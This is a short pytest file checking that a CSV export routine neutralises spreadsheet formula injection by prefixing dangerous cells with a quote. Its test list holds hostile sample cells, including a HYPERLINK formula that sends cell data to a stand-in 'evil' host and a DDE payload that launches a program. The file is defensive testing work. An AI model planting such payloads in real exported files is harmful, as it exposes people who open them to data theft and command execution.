"""CSV exports never hand a spreadsheet a formula (issue 12, item 7)."""
from __future__ import annotations

import csv
import io

import pytest

from consumers.analytics.cli import render
from consumers.csv_export import neutralise

ATTACKS = ["=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_cells_are_neutralised(cell):
    assert neutralise(cell) == "'" + cell


def test_plain_values_and_numbers_are_untouched():
    assert [neutralise(v) for v in ("medical_burden", "340403001", -45.5, 3, None)] == [
        "medical_burden", "340403001", -45.5, 3, None]


def test_sql_csv_output_is_neutralised():
    text = render(["rule", "n"], [(cell, -1) for cell in ATTACKS], "csv")
    rows = list(csv.reader(io.StringIO(text)))
    assert all(row[0].startswith("'") for row in rows[1:]) and [row[1] for row in rows[1:]] == ["-1"] * len(ATTACKS)
